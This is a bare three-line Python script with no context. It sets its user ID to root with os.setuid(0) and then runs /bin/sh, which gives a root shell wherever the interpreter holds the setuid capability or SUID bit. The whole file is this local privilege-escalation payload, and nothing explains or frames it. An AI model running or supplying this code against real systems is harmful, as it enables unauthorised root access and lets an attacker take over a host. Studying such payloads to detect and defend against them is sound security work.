import os
os.setuid(0)
os.execl("/bin/sh", "sh")
